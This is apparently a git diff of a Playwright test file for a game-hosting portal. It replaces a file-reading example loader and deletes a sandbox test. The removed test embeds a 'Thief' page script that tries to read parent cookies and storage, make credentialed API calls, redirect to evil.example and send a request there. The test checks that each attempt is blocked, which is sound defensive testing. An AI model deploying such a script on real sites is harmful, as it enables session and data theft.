@@ -1,19 +1,10 @@
-/** Hosted games: from the zip to playing, versions, and what a hostile build tries. */
-import { readFileSync } from 'node:fs'
+/** Hosted games: from the zip to playing, and versions. */
 import sharp from 'sharp'
 import type { ZipContents } from '../zips.ts'
 import { expectAccessible, expectNoSidewaysScroll, setTheme, THEMES } from './axe.ts'
-import { ABOUT, game, publish, upload } from './hosted.ts'
+import { ABOUT, EXAMPLE, game, publish, upload } from './hosted.ts'
 import { signUpAs } from './staff.ts'
 import { expect, startPortal, testOwnPortal } from './test.ts'
-
-const folder = new URL('../../examples/blob-catch/', import.meta.url)
-const example = Object.fromEntries(
-  ['index.html', 'game.js', 'style.css'].map((name) => [
-    `blob-catch/${name}`,
-    readFileSync(new URL(name, folder)),
-  ]),
-)
 
 const test = testOwnPortal(() => startPortal({})).extend({
   // eslint-disable-next-line no-empty-pattern -- Playwright reads the parameter's pattern
@@ -38,7 +29,7 @@ test('an owner uploads a zip, sees what is in it, and players play it', async ({
   await expectAccessible(page)
   await upload(page, { 'readme.txt': 'no page' })
   await expect(page.getByRole('alert')).toContainText('The zip contains no html page.')
-  await upload(page, example)
+  await upload(page, EXAMPLE)
 
   await expect(page.getByRole('heading', { name: 'What is in it' })).toBeVisible()
   await expect(page.getByText('Nothing looks wrong.')).toBeVisible()
@@ -182,52 +173,4 @@ test('storage never throws, and workers, modules and fetch work without an origi
       fetch: '3',
       module: 'true',
     })
-})
-
-test('a hostile build gets nothing of the portal', async ({ page, portal }) => {
-  await publish(
-    page,
-    portal,
-    {
-      'index.html': `<!doctype html><title>Thief</title><p id="out"></p><iframe src="/settings"></iframe><script>
-        const loot = []
-        const waiting = []
-        const attempt = (name, run) => {
-          try {
-            waiting.push(Promise.resolve(run()).then((got) => loot.push(name + ': ' + got), () => loot.push(name + ': no')))
-          } catch { loot.push(name + ': no') }
-        }
-        attempt('cookie', () => parent.document.cookie)
-        attempt('storage', () => parent.localStorage.length)
-        attempt('name', () => parent.name)
-        attempt('top', () => { top.location = 'https://evil.example/' ; throw 0 })
-        attempt('opener', () => { if (!open('/')) throw 0; return 'opened' })
-        attempt('me', () => fetch('/api/me', { credentials: 'include' }).then((got) => got.text()))
-        attempt('like', () => fetch('/likes/agar', { method: 'PUT', credentials: 'include', body: '{"liked":true}' }).then((got) => got.status))
-        attempt('worker', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'))
-        attempt('outside', () => fetch('https://evil.example/').then(() => 'sent'))
-        for (let n = 0; n < 2000; n += 1) parent.postMessage({ ioArcade: 'stored', isCleared: false, changes: [['k' + n, 'x'.repeat(9000)]] }, '*')
-        parent.postMessage({ ioArcade: 'stored', changes: [[1, {}]] }, '*')
-        localStorage.setItem('__proto__', 'own'); loot.push('proto: ' + ({}).own)
-        Promise.all(waiting).then(() => { out.textContent = loot.join(', ') })
-      </script>`,
-      'sw.js': 'x',
-      'plain.html': '<!doctype html><p>plain</p>',
-    },
-    'thief',
-  )
-  await page.goto('/game/thief')
-  await expect(game(page).locator('#out')).toContainText('outside')
-  const loot = (await game(page).locator('#out').textContent())!.split(', ').toSorted()
-  expect(loot).toEqual(
-    ['cookie', 'like', 'me', 'name', 'opener', 'outside', 'storage', 'top', 'worker']
-      .map((name) => `${name}: no`)
-      .concat('proto: undefined')
-      .toSorted(),
-  )
-  await expect(page).toHaveURL('/game/thief')
-  await expect(page.getByRole('button', { name: 'Account menu' })).toBeVisible()
-  // So it does at a direct visit.
-  await page.goto('/hosted/thief/plain.html')
-  expect(await page.evaluate(() => [origin, document.cookie])).toEqual(['null', ''])
 })
